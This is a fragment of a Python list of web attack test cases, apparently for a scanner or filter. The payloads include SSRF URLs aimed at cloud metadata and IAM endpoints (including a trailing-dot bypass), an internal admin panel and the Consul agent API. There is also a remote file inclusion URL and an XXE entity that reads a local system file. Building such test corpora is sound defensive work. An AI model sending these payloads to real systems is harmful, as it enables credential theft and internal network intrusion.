    ("ssrf", "AWS instance-data alias host", "form", "notify_url", "http://instance-data/latest/meta-data/iam/info"),
    ("ssrf", "notification avatar URL to internal admin panel", "form", "avatar_url", "http://198.18.0.1:8080/admin/users"),
    ("ssrf", "trailing-dot metadata IP with explicit port", "form", "webhook_url", "http://169.254.169.254.:80/latest/meta-data/"),
    ("ssrf", "Consul agent API via integration URL", "json", "integration", _j(
        {"type": "teams", "webhook_url": "http://198.18.0.20:8500/v1/agent/self"})),
    ("rfi", "notification template fetched from remote PHP text", "form", "template_url", "http://x.example/mail_tpl.txt?"),
    ("xxe", "inbound e-mail webhook XML with external entity", "body:application/xml", "inbound-mail",
     '<?xml version="1.0"?><!DOCTYPE mail [<!ENTITY h SYSTEM "file:///etc/hostname">]>'
     "<mail><from>a@x.example</from><subject>&h;</subject><body>hi</body></mail>"),
]
